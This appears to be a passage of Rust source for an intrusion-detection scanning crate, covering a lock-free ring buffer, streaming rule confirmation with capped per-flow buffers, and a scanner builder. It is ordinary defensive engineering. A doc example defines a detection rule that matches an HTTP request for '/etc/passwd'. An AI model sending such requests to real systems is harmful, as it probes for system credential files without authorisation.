            if head == self.cached_tail {
                return None;
            }
        }
        // SAFETY: head < tail, so the producer published this slot (release
        // /acquire on tail) and is not writing it; only this (single)
        // consumer reads it.
        let item = unsafe { (*shared.buffer[head & shared.mask].get()).assume_init_read() };
        // Release pairs with the producer's acquire head load: the slot
        // read above happens-before the producer reuses the slot.
        shared.head.0.store(head.wrapping_add(1), Ordering::Release);
        Some(item)
    }

    /// Number of items currently buffered.
    pub fn len(&self) -> usize {
        let tail = self.shared.tail.0.load(Ordering::Relaxed);
        let head = self.shared.head.0.load(Ordering::Relaxed);
        tail.wrapping_sub(head)
    }

    /// True when no items are buffered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// True once the producer has dropped its handle. Buffered items are
    /// still poppable.
    pub fn is_closed(&self) -> bool {
        self.shared.closed.load(Ordering::Relaxed)
    }
}

impl<T> Drop for Producer<T> {
    fn drop(&mut self) {
        self.shared.closed.store(true, Ordering::Release);
    }
}

impl<T> Drop for Consumer<T> {
    fn drop(&mut self) {
        // Buffered items are deliberately left in place: after a worker
        // dies, the control side recovers them via [`Producer::reclaim`].
        // If the producer goes away too, `Shared::drop` sweeps [head, tail)
        // so nothing leaks either way.
        self.shared.closed.store(true, Ordering::Release);
    }
}

impl<T> Drop for Shared<T> {
    fn drop(&mut self) {
        // Sole owner now: drop any items still sitting in [head, tail).
        let head = self.head.0.load(Ordering::Relaxed);
        let tail = self.tail.0.load(Ordering::Relaxed);
        for i in head..tail {
            // SAFETY: slots in [head, tail) hold initialized items nobody
            // else can touch anymore.
            unsafe {
                (*self.buffer[i & self.mask].get()).assume_init_drop();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::AtomicUsize;

    #[test]
    fn fifo_order_and_wraparound() {
        let (mut tx, mut rx) = spsc::<u32>(4);
        assert_eq!(tx.capacity(), 4);
        // Cycle far past the capacity so indices wrap the mask many times.
        for round in 0..100u32 {
            for i in 0..3 {
                tx.push(round * 10 + i).unwrap();
            }
            for i in 0..3 {
                assert_eq!(rx.pop(), Some(round * 10 + i));
            }
            assert!(rx.pop().is_none());
        }
    }

    #[test]
    fn full_ring_returns_the_item() {
        let (mut tx, mut rx) = spsc::<String>(2);
        tx.push("a".into()).unwrap();
        tx.push("b".into()).unwrap();
        match tx.push("c".into()) {
            Err(PushError::Full(s)) => assert_eq!(s, "c"),
            other => panic!("expected Full, got {other:?}"),
        }
        assert_eq!(tx.len(), 2);
        assert_eq!(rx.pop().as_deref(), Some("a"));
        tx.push("c".into()).unwrap();
        assert_eq!(rx.pop().as_deref(), Some("b"));
        assert_eq!(rx.pop().as_deref(), Some("c"));
        assert!(rx.is_empty());
    }

    #[test]
    fn consumer_drains_after_producer_disconnects() {
        let (mut tx, mut rx) = spsc::<u32>(8);
        tx.push(1).unwrap();
        tx.push(2).unwrap();
        drop(tx);
        assert!(rx.is_closed());
        assert_eq!(rx.pop(), Some(1));
        assert_eq!(rx.pop(), Some(2));
        assert_eq!(rx.pop(), None);
    }

    #[test]
    fn producer_fails_closed_after_consumer_disconnects() {
        let (mut tx, rx) = spsc::<u32>(8);
        tx.push(1).unwrap();
        drop(rx);
        assert!(tx.is_closed());
        match tx.push(2) {
            Err(PushError::Closed(2)) => {}
            other => panic!("expected Closed, got {other:?}"),
        }
    }

    #[test]
    fn buffered_items_are_dropped_not_leaked() {
        static DROPS: AtomicUsize = AtomicUsize::new(0);
        #[derive(Debug)]
        struct Counted;
        impl Drop for Counted {
            fn drop(&mut self) {
                DROPS.fetch_add(1, Ordering::SeqCst);
            }
        }
        let (mut tx, mut rx) = spsc::<Counted>(8);
        for _ in 0..5 {
            tx.push(Counted).unwrap();
        }
        drop(rx.pop()); // one popped and dropped by the caller
        drop(tx);
        drop(rx); // four still buffered: swept by the ring teardown
        assert_eq!(DROPS.load(Ordering::SeqCst), 5);
    }

    #[test]
    fn cross_thread_stress_preserves_every_item_in_order() {
        const N: u64 = 200_000;
        let (mut tx, mut rx) = spsc::<u64>(64);
        let producer = std::thread::spawn(move || {
            let mut next = 0u64;
            while next < N {
                match tx.push(next) {
                    Ok(()) => next += 1,
                    Err(PushError::Full(_)) => std::hint::spin_loop(),
                    Err(PushError::Closed(_)) => panic!("consumer vanished"),
                }
            }
        });
        let mut expected = 0u64;
        while expected < N {
            match rx.pop() {
                Some(v) => {
                    assert_eq!(v, expected, "reordered or lost item");
                    expected += 1;
                }
                None => std::hint::spin_loop(),
            }
        }
        producer.join().unwrap();
        assert!(rx.pop().is_none());
    }
}
