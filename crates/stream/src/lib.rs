//! Streaming and multi-core scanning on top of the `mpm-*` engines.
//!
//! The paper evaluates S-PATCH / V-PATCH on one-shot buffers on a single
//! core. A production NIDS sees neither: payload arrives as a never-ending
//! sequence of reassembled chunks, and serving line-rate traffic means
//! spreading flows across cores. This crate supplies that deployment shape
//! without touching the engines themselves:
//!
//! * [`StreamScanner`] — wraps any [`mpm_patterns::Matcher`] and makes
//!   chunked scanning equivalent to a one-shot scan: it carries the last
//!   `max_pattern_len - 1` bytes between [`StreamScanner::push`] calls,
//!   drops overlap re-reports, and translates match positions to absolute
//!   stream offsets. Property-tested: any chunking (down to 1-byte chunks)
//!   reports byte-identical match sets to `find_all` on the whole input.
//! * [`ScannerBuilder`] — the one entry point for multi-core scanning:
//!   pick a source (`engine`/`rules`/`groups`), a width (`workers`,
//!   `ring_capacity`) and an [`EvictionPolicy`], then [`build`] the
//!   continuously-running pipeline or [`build_barrier`] the batch oracle.
//!
//! * [`PipelineScanner`] — the production runtime: bounded lock-free SPSC
//!   rings per worker, **flow-affine dispatch with no per-batch barrier**,
//!   a [`BackpressurePolicy`] choosing between lossless blocking and
//!   counted load-shedding on ring-full, time+LRU hybrid flow eviction,
//!   bounded per-flow rule buffers with graceful degradation
//!   ([`ScannerBuilder::max_flow_buffer`]), worker supervision (a
//!   panicking worker is respawned, its flows quarantined as
//!   [`FlowError`]s instead of silently lost), graceful epoch-stamped
//!   ruleset hot-swap, and latency observability (per-packet p50/p99/p999
//!   via a log-bucketed histogram merged across workers, per-worker
//!   utilization and ring-occupancy high-water marks) reported by
//!   [`PipelineStats`].
//!
//! * [`fault`] — a deterministic fault-injection harness (worker panics,
//!   forced ring-full, a mock eviction clock) behind the `fault-inject`
//!   cargo feature; without the feature every hook is an inlined no-op.
//!
//! * [`ShardedScanner`] — the batch-and-join harness the pipeline grew out
//!   of: fans batches of [`Packet`]s out over N worker threads with
//!   **flow-affine sharding** (same flow id ⇒ same worker, so per-flow
//!   stream state stays coherent), merging matches and
//!   [`mpm_patterns::MatcherStats`] deterministically: 1 worker and N
//!   workers produce identical output for the same batch — and the
//!   pipeline produces byte-identical sorted match sets to it
//!   (`tests/pipeline_equivalence.rs`). Per-flow state is retired by
//!   [`ShardedScanner::close_flow`] or bounded wholesale by an
//!   [`EvictionPolicy`] flow cap (least-recently-pushed eviction).
//!
//! [`build`]: ScannerBuilder::build
//! [`build_barrier`]: ScannerBuilder::build_barrier
//!
//! * [`RuleStreamScanner`] — the same chunking guarantee one level up:
//!   multi-content rules with positional constraints
//!   (`offset`/`depth`/`distance`/`within`) are confirmed over a chunked
//!   flow exactly as `mpm_verify::RuleScanner::scan_rules` would confirm
//!   them over the concatenated payload. Rule mode ([`ScannerBuilder::rules`])
//!   runs it per flow across workers, reporting confirmed rules in
//!   [`BatchResult::rule_matches`].
//!
//! * [`GroupedEngineSet`] / [`GroupedFlowScanner`] — **port-grouped**
//!   scanning: a `mpm_patterns::GroupedRuleSet` partitions the ruleset by
//!   Snort header (protocol + ports), one engine is compiled per group
//!   against a shared pattern arena, and each flow is scanned only against
//!   the groups its protocol/port tuple selects.
//!   Grouped mode ([`ScannerBuilder::groups`]) runs it per flow across workers;
//!   results are provably identical to a monolithic scan filtered to each
//!   flow's applicable rules (`tests/grouped_differential.rs`).
//!
//! The pattern layers consult only pattern *lengths*, so they are agnostic
//! to each pattern's case rule — `nocase` sets stream and shard unchanged
//! (property-tested in the workspace's `tests/nocase_differential.rs`). The
//! rule layer buffers each flow's payload (positional windows are
//! unbounded); see the `rules` module docs for the memory contract.
//!
//! Engines are shared across flows and threads as a
//! [`SharedMatcher`] (`Arc<dyn Matcher + Send +
//! Sync>`); pin the backend they compile for with `MPM_FORCE_BACKEND`
//! (see `mpm_simd::forced_backend`) when determinism across machines
//! matters — CI runs the whole test suite once per backend that way.

#![warn(missing_docs)]

pub mod builder;
pub mod fault;
pub mod group;
pub mod pipeline;
pub mod ring;
pub mod rules;
pub mod shard;
pub mod stream;
mod worker;

pub use builder::{BackpressurePolicy, BuildError, EvictionPolicy, ScannerBuilder};
pub use fault::FaultPlan;
pub use group::{GroupedEngineSet, GroupedFlowScanner};
pub use pipeline::{
    FlowError, PipelineError, PipelineScanner, PipelineStats, WorkerRestart, WorkerStats,
};
pub use rules::RuleStreamScanner;
pub use shard::{BatchResult, FlowMatch, FlowRuleMatch, Packet, ShardedScanner};
pub use stream::{SharedMatcher, StreamScanner};
