//! [`RuleStreamScanner`]: rule confirmation over a chunked stream.
//!
//! The pattern layer ([`StreamScanner`]) only needs `max_pattern_len - 1`
//! bytes of history, because a pattern occurrence spans at most
//! `max_pattern_len` bytes. Rules are different: `offset`/`distance`
//! windows are unbounded (a rule may pair a content at offset 0 with one a
//! megabyte later), so confirmation is a function of the **whole flow
//! payload seen so far**. `RuleStreamScanner` therefore buffers the flow's
//! payload, while still running the anchor engine incrementally through the
//! inner [`StreamScanner`] (carry bytes only) so the per-chunk fast path
//! stays cheap: confirmation work happens only on pushes where an anchor
//! fires or a rule is already pending.
//!
//! Equivalence guarantee (property-tested in
//! `tests/rule_confirmation_differential.rs` and
//! `crates/stream/tests/rule_stream_equivalence.rs`): for any chunking, the
//! set of confirmed rules and their reported offsets equals
//! `RuleScanner::scan_rules` on the concatenated payload. That holds
//! because the confirmer reports the **minimal prefix length** at which a
//! rule is satisfiable — a pure function of the payload bytes, independent
//! of where chunk seams fall — and satisfiability is monotone in the
//! prefix, so re-checking a pending rule on each push confirms it on
//! exactly the push whose chunk completes that minimal prefix.
//!
//! # Memory contract: bounded buffers and graceful degradation
//!
//! The whole-payload buffer makes an unbounded flow a memory-exhaustion
//! vector: one adversarial elephant flow grows its buffer without limit.
//! [`RuleStreamScanner::with_max_buffer`] caps the buffer at `cap` bytes.
//! While the stream fits the cap, behaviour is byte-identical to the
//! unbounded scanner. On the push that would exceed the cap the flow
//! **degrades**: rules satisfiable within the first `cap` bytes are
//! confirmed one final time (confirmation over a capped flow is exactly
//! `scan_rules` on the first `cap` bytes of the stream, independent of
//! chunk seams), then the buffer is released, confirmation is disabled for
//! the rest of the flow, and the scanner keeps reporting **anchor hits
//! only** over the engine's sliding carry window.
//! [`RuleStreamScanner::degraded`] flags the transition and
//! [`RuleStreamScanner::truncated_bytes`] counts every payload byte that
//! was never eligible for confirmation.

use crate::stream::{SharedMatcher, StreamScanner};
use mpm_patterns::rule::{RuleId, RuleMatch, RuleSet};
use mpm_patterns::{MatchEvent, MatcherStats};
use mpm_verify::RuleConfirmer;
use std::sync::Arc;

/// Per-rule confirmation progress within one flow.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum RuleState {
    /// No anchor hit yet; the rule cannot match (anchor gating is exact).
    Unseen,
    /// Anchor fired, but the remaining contents/constraints are not yet
    /// satisfiable on the payload so far — re-checked on every later push.
    Pending,
    /// Confirmed and reported; never re-reported for this flow.
    Confirmed,
}

/// Stateful rule scanning over one logical stream (one flow).
///
/// Wraps a [`StreamScanner`] over the rule set's anchor patterns and a
/// [`RuleConfirmer`]; both the engine and the confirmer are shared
/// (`Arc`), so per-flow cost is the buffered payload plus a byte of state
/// per rule.
///
/// ```
/// use mpm_patterns::rule::{Rule, RuleContent, RuleSet};
/// use mpm_patterns::ProtocolGroup;
/// use mpm_stream::RuleStreamScanner;
/// use std::sync::Arc;
///
/// let set = RuleSet::new(vec![Rule::new(
///     ProtocolGroup::Any,
///     vec![
///         RuleContent::new(*b"GET "),
///         RuleContent::new(*b"passwd").with_distance(0),
///     ],
/// )]);
/// let engine: mpm_stream::SharedMatcher =
///     Arc::from(mpm_patterns::NaiveMatcher::new(set.anchors()));
/// let mut scanner = RuleStreamScanner::new(engine, &set);
///
/// let (mut anchors, mut rules) = (Vec::new(), Vec::new());
/// scanner.push(b"GET /etc/pas", &mut anchors, &mut rules);
/// assert!(rules.is_empty()); // anchor seen, second content incomplete
/// scanner.push(b"swd HTTP/1.1", &mut anchors, &mut rules);
/// assert_eq!(rules.len(), 1);
/// assert_eq!(rules[0].end, 15); // minimal satisfiable prefix, absolute
/// ```
pub struct RuleStreamScanner {
    inner: StreamScanner,
    confirmer: Arc<RuleConfirmer>,
    /// Pattern index → rule index for the anchor set.
    rule_of: Arc<[u32]>,
    /// When the confirmer covers a *superset* of this scanner's rules (the
    /// grouped path shares one confirmer across every port group), maps the
    /// scanner-local rule index to the confirmer's rule id; `None` means
    /// the identity (the confirmer was built for exactly these rules).
    /// Confirmed rules are reported under the **mapped** id.
    confirm_ids: Option<Arc<[u32]>>,
    /// The flow's payload so far (see module docs for why rules need it).
    payload: Vec<u8>,
    state: Vec<RuleState>,
    /// Rules in [`RuleState::Pending`], re-checked each push.
    pending: Vec<u32>,
    /// Buffer cap in bytes; `None` means unbounded (the historical
    /// behaviour). See the module-level memory contract.
    max_buffer: Option<usize>,
    /// True once the flow exceeded `max_buffer` and fell back to
    /// anchor-only reporting.
    degraded: bool,
    /// Payload bytes that were never eligible for confirmation (everything
    /// past the first `max_buffer` bytes of the stream).
    truncated: u64,
}

impl std::fmt::Debug for RuleStreamScanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RuleStreamScanner")
            .field("inner", &self.inner)
            .field("rules", &self.state.len())
            .field("pending", &self.pending.len())
            .field("buffered_bytes", &self.payload.len())
            .field("degraded", &self.degraded)
            .finish_non_exhaustive()
    }
}

impl RuleStreamScanner {
    /// Creates a rule scanner for one stream.
    ///
    /// `engine` must be compiled for `set.anchors()` (same contract as
    /// [`StreamScanner::new`], which this delegates to).
    ///
    /// # Panics
    /// Panics if the engine disagrees with the anchor set about the longest
    /// pattern.
    pub fn new(engine: SharedMatcher, set: &RuleSet) -> Self {
        let inner = StreamScanner::new(engine, set.anchors());
        // Invariant: `RuleSet::anchors()` builds its `PatternSet` with one
        // binding per anchor, so `rule_bindings()` is always `Some` here.
        let rule_of: Arc<[u32]> = set
            .anchors()
            .rule_bindings()
            .expect("RuleSet::anchors is always rule-bound")
            .into();
        Self::with_parts(
            inner,
            Arc::new(RuleConfirmer::build(set)),
            rule_of,
            None,
            None,
        )
    }

    /// Internal constructor used by `ShardedScanner` and the grouped path
    /// to mint per-flow scanners from shared, pre-built parts.
    /// `confirm_ids` translates scanner-local rule indices to the
    /// confirmer's ids when the confirmer is shared across groups.
    pub(crate) fn with_parts(
        inner: StreamScanner,
        confirmer: Arc<RuleConfirmer>,
        rule_of: Arc<[u32]>,
        confirm_ids: Option<Arc<[u32]>>,
        max_buffer: Option<usize>,
    ) -> Self {
        let rules = match &confirm_ids {
            Some(ids) => ids.len(),
            None => confirmer.rule_count(),
        };
        RuleStreamScanner {
            inner,
            confirmer,
            rule_of,
            confirm_ids,
            payload: Vec::new(),
            state: vec![RuleState::Unseen; rules],
            pending: Vec::new(),
            max_buffer,
            degraded: false,
            truncated: 0,
        }
    }

    /// Caps the confirmation buffer at `bytes`; over the cap the flow
    /// degrades to anchor-only reporting (see the module-level memory
    /// contract). A cap of zero degrades on the first non-empty push.
    #[must_use]
    pub fn with_max_buffer(mut self, bytes: usize) -> Self {
        self.max_buffer = Some(bytes);
        self
    }

    /// Absolute offset of the next byte to be pushed.
    pub fn position(&self) -> usize {
        self.inner.position()
    }

    /// Bytes of flow payload currently buffered for confirmation (the whole
    /// stream so far, or zero once the flow degraded — see the module docs
    /// for the memory contract).
    pub fn buffered_bytes(&self) -> usize {
        self.payload.len()
    }

    /// The configured buffer cap, if any.
    pub fn max_buffer(&self) -> Option<usize> {
        self.max_buffer
    }

    /// True once the flow exceeded the buffer cap and fell back to
    /// anchor-only reporting (confirmation disabled, buffer released).
    pub fn degraded(&self) -> bool {
        self.degraded
    }

    /// Payload bytes past the first `max_buffer` bytes of the stream —
    /// scanned for anchors but never eligible for rule confirmation.
    pub fn truncated_bytes(&self) -> u64 {
        self.truncated
    }

    /// Accumulated whole-stream statistics of the anchor engine.
    pub fn stats(&self) -> MatcherStats {
        self.inner.stats()
    }

    /// The shared confirmation stage.
    pub fn confirmer(&self) -> &Arc<RuleConfirmer> {
        &self.confirmer
    }

    /// Resets the scanner for a new stream, keeping the engine, confirmer
    /// and allocated buffers.
    pub fn reset(&mut self) {
        self.inner.reset();
        self.payload.clear();
        self.state.fill(RuleState::Unseen);
        self.pending.clear();
        self.degraded = false;
        self.truncated = 0;
    }

    /// Scans the next chunk: anchor-pattern hits are appended to
    /// `anchors_out` (absolute offsets, exactly as [`StreamScanner::push`]
    /// reports them) and newly confirmed rules to `rules_out`, each rule at
    /// most once per stream, with [`RuleMatch::end`] the minimal prefix
    /// length of the stream at which the rule became satisfiable.
    pub fn push(
        &mut self,
        chunk: &[u8],
        anchors_out: &mut Vec<MatchEvent>,
        rules_out: &mut Vec<RuleMatch>,
    ) {
        if chunk.is_empty() {
            return;
        }
        if self.degraded {
            // Anchor-only fallback: the engine's carry window keeps anchor
            // reporting exact; confirmation state is frozen.
            self.truncated += chunk.len() as u64;
            self.inner.push(chunk, anchors_out);
            return;
        }
        // Does this push take the stream past the buffer cap? If so, only
        // the prefix that still fits is eligible for confirmation; the rest
        // of the chunk is anchor-scanned but truncated.
        let crossing = self
            .max_buffer
            .is_some_and(|cap| self.payload.len() + chunk.len() > cap);
        let take = if crossing {
            self.max_buffer
                .unwrap_or(0)
                .saturating_sub(self.payload.len())
        } else {
            chunk.len()
        };
        self.payload.extend_from_slice(&chunk[..take]);
        let first_new = anchors_out.len();
        self.inner.push(chunk, anchors_out);
        for event in &anchors_out[first_new..] {
            let rule = self.rule_of[event.pattern.index()] as usize;
            if self.state[rule] == RuleState::Unseen {
                self.state[rule] = RuleState::Pending;
                self.pending.push(rule as u32);
            }
        }
        // On the crossing push this final re-check runs against exactly the
        // first `cap` bytes of the stream, so a capped flow confirms the
        // same rules as `scan_rules` on that prefix regardless of where the
        // chunk seams fall. (Anchors past the cap may have marked rules
        // pending above; their contents are absent from the capped payload,
        // so they cannot confirm, and pending state is cleared below.)
        let (confirmer, payload, state) = (&self.confirmer, &self.payload, &mut self.state);
        let confirm_ids = self.confirm_ids.as_deref();
        self.pending.retain(|&rule| {
            let id = match confirm_ids {
                Some(ids) => RuleId(ids[rule as usize]),
                None => RuleId(rule),
            };
            match confirmer.confirm(payload, id) {
                Some(end) => {
                    state[rule as usize] = RuleState::Confirmed;
                    rules_out.push(RuleMatch::new(id, end));
                    false
                }
                None => true,
            }
        });
        if crossing {
            self.truncated += (chunk.len() - take) as u64;
            self.pending.clear();
            self.degraded = true;
            // Release (not just clear) the buffer: the cap exists to bound
            // memory, and this flow will never confirm again.
            self.payload = Vec::new();
        }
    }

    /// Convenience wrapper: scans `chunk` and returns the new anchor events
    /// and confirmed rules.
    pub fn push_collect(&mut self, chunk: &[u8]) -> (Vec<MatchEvent>, Vec<RuleMatch>) {
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        self.push(chunk, &mut anchors, &mut rules);
        (anchors, rules)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::rule::{naive_rule_find_all, Rule, RuleContent};
    use mpm_patterns::{NaiveMatcher, ProtocolGroup};

    fn ruleset(rules: Vec<Vec<RuleContent>>) -> RuleSet {
        RuleSet::new(
            rules
                .into_iter()
                .map(|contents| Rule::new(ProtocolGroup::Any, contents))
                .collect(),
        )
    }

    fn scanner(set: &RuleSet) -> RuleStreamScanner {
        RuleStreamScanner::new(Arc::new(NaiveMatcher::new(set.anchors())), set)
    }

    #[test]
    fn rule_confirmed_on_the_push_that_completes_it() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"user"),
            RuleContent::new(*b"pass").with_distance(0),
        ]]);
        let mut s = scanner(&set);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        s.push(b"user alice ", &mut anchors, &mut rules);
        assert!(rules.is_empty(), "anchor alone must not confirm");
        s.push(b"pa", &mut anchors, &mut rules);
        assert!(rules.is_empty());
        s.push(b"ss", &mut anchors, &mut rules);
        assert_eq!(rules, vec![RuleMatch::new(RuleId(0), 15)]);
        // Never re-reported.
        s.push(b" pass", &mut anchors, &mut rules);
        assert_eq!(rules.len(), 1);
    }

    #[test]
    fn streamed_equals_one_shot_for_every_two_chunk_cut() {
        let set = ruleset(vec![
            vec![
                RuleContent::new(*b"abcd"),
                RuleContent::new(*b"wxyz").with_distance(1).with_within(12),
            ],
            vec![RuleContent::new(*b"wxyz").with_offset(3)],
        ]);
        let payload = b"..abcd...wxyz...";
        let expected = naive_rule_find_all(&set, payload);
        assert!(!expected.is_empty());
        for cut in 0..=payload.len() {
            let mut s = scanner(&set);
            let (mut anchors, mut rules) = (Vec::new(), Vec::new());
            s.push(&payload[..cut], &mut anchors, &mut rules);
            s.push(&payload[cut..], &mut anchors, &mut rules);
            rules.sort_unstable();
            assert_eq!(rules, expected, "diverged at cut {cut}");
        }
    }

    #[test]
    fn capped_flow_confirms_exactly_the_cap_prefix_for_every_cut() {
        // Rule 0 is satisfiable within the first 16 bytes, rule 1 only
        // beyond them; a 16-byte cap must confirm exactly rule 0 no matter
        // how the stream is chunked.
        let set = ruleset(vec![
            vec![
                RuleContent::new(*b"abcd"),
                RuleContent::new(*b"wxyz").with_distance(0),
            ],
            vec![RuleContent::new(*b"wxyz").with_offset(20)],
        ]);
        let payload = b"..abcd..wxyz....more..wxyz..tail";
        let cap = 16;
        let expected = naive_rule_find_all(&set, &payload[..cap]);
        assert_eq!(expected.len(), 1, "exactly rule 0 within the cap");
        for cut in 0..=payload.len() {
            let mut s = scanner(&set).with_max_buffer(cap);
            let (mut anchors, mut rules) = (Vec::new(), Vec::new());
            s.push(&payload[..cut], &mut anchors, &mut rules);
            s.push(&payload[cut..], &mut anchors, &mut rules);
            rules.sort_unstable();
            assert_eq!(rules, expected, "diverged at cut {cut}");
            assert!(s.degraded());
            assert_eq!(s.buffered_bytes(), 0, "buffer released on degrade");
            assert_eq!(s.truncated_bytes(), (payload.len() - cap) as u64);
            // Anchor reporting survives degradation: rule 1's "wxyz"
            // anchor at 22 lies past the cap and is still reported.
            let starts: Vec<usize> = anchors.iter().map(|e| e.start).collect();
            assert!(starts.contains(&22), "post-cap anchor missing: {starts:?}");
        }
    }

    #[test]
    fn degraded_flow_stops_confirming_but_keeps_reporting_anchors() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"user"),
            RuleContent::new(*b"pass").with_distance(0),
        ]]);
        let mut s = scanner(&set).with_max_buffer(4);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        s.push(b"......", &mut anchors, &mut rules); // crosses the 4-byte cap
        assert!(s.degraded());
        s.push(b"user pass", &mut anchors, &mut rules);
        assert!(rules.is_empty(), "no confirmation after degradation");
        assert_eq!(anchors.len(), 1, "anchor still reported");
        assert_eq!(s.truncated_bytes(), 2 + 9);
        assert_eq!(s.buffered_bytes(), 0);
    }

    #[test]
    fn reset_clears_degradation() {
        let set = ruleset(vec![vec![RuleContent::new(*b"abcd")]]);
        let mut s = scanner(&set).with_max_buffer(4);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        s.push(b"......", &mut anchors, &mut rules);
        assert!(s.degraded());
        s.reset();
        assert!(!s.degraded());
        assert_eq!(s.truncated_bytes(), 0);
        s.push(b"abcd", &mut anchors, &mut rules);
        assert_eq!(rules.len(), 1, "fresh stream confirms within the cap");
    }

    #[test]
    fn reset_forgets_payload_and_rule_state() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"ab"),
            RuleContent::new(*b"cd").with_distance(0),
        ]]);
        let mut s = scanner(&set);
        let (mut anchors, mut rules) = (Vec::new(), Vec::new());
        s.push(b"ab", &mut anchors, &mut rules);
        s.reset();
        assert_eq!(s.buffered_bytes(), 0);
        s.push(b"cd", &mut anchors, &mut rules);
        assert!(rules.is_empty(), "old stream's anchor must not linger");
    }
}
