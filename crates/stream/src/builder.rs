//! [`ScannerBuilder`]: one entry point for every multi-core scanner
//! configuration.
//!
//! PRs 3–7 accreted a six-way constructor matrix on
//! [`crate::ShardedScanner`] (`new` / `with_rules` / `with_groups`, each
//! crossed with `*_max_flows`); every new knob doubled it. The builder
//! collapses the matrix into orthogonal axes — *what to scan with*
//! ([`ScannerBuilder::engine`] / [`ScannerBuilder::rules`] /
//! [`ScannerBuilder::groups`]), *how wide* ([`ScannerBuilder::workers`],
//! [`ScannerBuilder::ring_capacity`]), and *how long flows live*
//! ([`ScannerBuilder::max_flows`], [`ScannerBuilder::eviction`]) — and
//! offers two terminal shapes: [`ScannerBuilder::build`] for the
//! continuously-running [`PipelineScanner`] (the production runtime) and
//! [`ScannerBuilder::build_barrier`] for the batch-and-join
//! [`crate::ShardedScanner`] (differential oracles and batch benchmarks).
//! The pre-builder constructors lived on as `#[deprecated]` shims for one
//! release and were removed in PR 9; the builder is the only entry point.

use crate::group::GroupedEngineSet;
use crate::pipeline::PipelineScanner;
use crate::shard::ShardedScanner;
use crate::stream::SharedMatcher;
use crate::worker::{plain_mode, rule_parts, WorkerMode};
use mpm_patterns::rule::RuleSet;
use mpm_patterns::PatternSet;
use std::sync::Arc;
use std::time::Duration;

/// When per-flow stream state is retired without an explicit
/// `close_flow`. Both knobs compose: a cap bounds worst-case memory, the
/// idle timeout retires quiet flows long before the cap forces them out —
/// the NIDS reassembly idiom of "table size limit + idle timer".
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct EvictionPolicy {
    /// Bound on resident flows across all workers (rounded up to a whole
    /// number per worker); at the bound, the least-recently-pushed flow on
    /// the receiving worker is evicted. `None` = unbounded.
    pub max_flows: Option<usize>,
    /// Retire a flow once no packet has arrived for it for this long,
    /// swept lazily on the owning worker. `None` = no idle timeout.
    /// Only the pipeline honours this ([`ScannerBuilder::build`]); the
    /// barrier scanner has no clock between batches.
    pub idle_after: Option<Duration>,
}

impl EvictionPolicy {
    /// Keep every flow until it is closed explicitly.
    pub fn none() -> Self {
        Self::default()
    }

    /// Cap resident flows at `max_flows` (least-recently-pushed eviction).
    pub fn max_flows(max_flows: usize) -> Self {
        EvictionPolicy {
            max_flows: Some(max_flows),
            idle_after: None,
        }
    }

    /// Retire flows idle for `idle_after` or longer.
    pub fn idle_after(idle_after: Duration) -> Self {
        EvictionPolicy {
            max_flows: None,
            idle_after: Some(idle_after),
        }
    }

    /// Adds an idle timeout to this policy (builder-style).
    pub fn and_idle_after(mut self, idle_after: Duration) -> Self {
        self.idle_after = Some(idle_after);
        self
    }
}

/// What the scanner scans with — set exactly once, by
/// [`ScannerBuilder::engine`], [`ScannerBuilder::rules`] or
/// [`ScannerBuilder::groups`].
enum Source {
    Unset,
    Mode(WorkerMode),
}

/// Builder for both multi-core scanners; see the module docs.
///
/// ```
/// use mpm_patterns::{NaiveMatcher, PatternSet};
/// use mpm_stream::{Packet, ScannerBuilder};
/// use std::sync::Arc;
///
/// let set = PatternSet::from_literals(&["needle"]);
/// let engine: mpm_stream::SharedMatcher = Arc::from(NaiveMatcher::new(&set));
/// let mut pipeline = ScannerBuilder::new()
///     .engine(engine, &set)
///     .workers(4)
///     .max_flows(100_000)
///     .build();
/// pipeline.dispatch(Packet::new(1, b"..needle..".to_vec()));
/// assert_eq!(pipeline.drain().matches.len(), 1);
/// ```
pub struct ScannerBuilder {
    source: Source,
    workers: usize,
    ring_capacity: usize,
    eviction: EvictionPolicy,
}

impl Default for ScannerBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl ScannerBuilder {
    /// Starts a builder with defaults: 1 worker, 1024-slot job rings, no
    /// eviction.
    pub fn new() -> Self {
        ScannerBuilder {
            source: Source::Unset,
            workers: 1,
            ring_capacity: 1024,
            eviction: EvictionPolicy::none(),
        }
    }

    /// Scan every flow with one pattern engine (pattern matches only, no
    /// rule confirmation). `set` must be the pattern set `engine` was
    /// compiled for.
    ///
    /// # Panics
    /// Panics if a source was already set, or the engine/set disagree about
    /// the longest pattern.
    pub fn engine(mut self, engine: SharedMatcher, set: &PatternSet) -> Self {
        self.set_source(plain_mode(engine, set, None));
        self
    }

    /// Scan every flow in monolithic **rule mode**: `engine` (compiled for
    /// `set.anchors()`) finds anchors, and rules are confirmed per flow
    /// with positional constraints across packet boundaries.
    ///
    /// # Panics
    /// Panics if a source was already set, or the engine/anchor-set
    /// disagree about the longest pattern.
    pub fn rules(mut self, engine: SharedMatcher, set: &RuleSet) -> Self {
        self.set_source(plain_mode(engine, set.anchors(), Some(rule_parts(set))));
        self
    }

    /// Scan flows in **port-grouped rule mode**: each flow is scanned only
    /// against the groups its [`crate::Packet::tuple`] selects.
    ///
    /// # Panics
    /// Panics if a source was already set.
    pub fn groups(mut self, engines: Arc<GroupedEngineSet>) -> Self {
        self.set_source(WorkerMode::Grouped(engines));
        self
    }

    /// Number of worker threads (default 1).
    ///
    /// # Panics
    /// Panics if `workers` is zero.
    pub fn workers(mut self, workers: usize) -> Self {
        assert!(workers > 0, "need at least one worker");
        self.workers = workers;
        self
    }

    /// Per-worker job-ring capacity in packets (default 1024, rounded up to
    /// a power of two). Smaller rings bound latency and memory tighter but
    /// engage backpressure sooner. Only the pipeline uses rings; the
    /// barrier scanner ignores this.
    ///
    /// # Panics
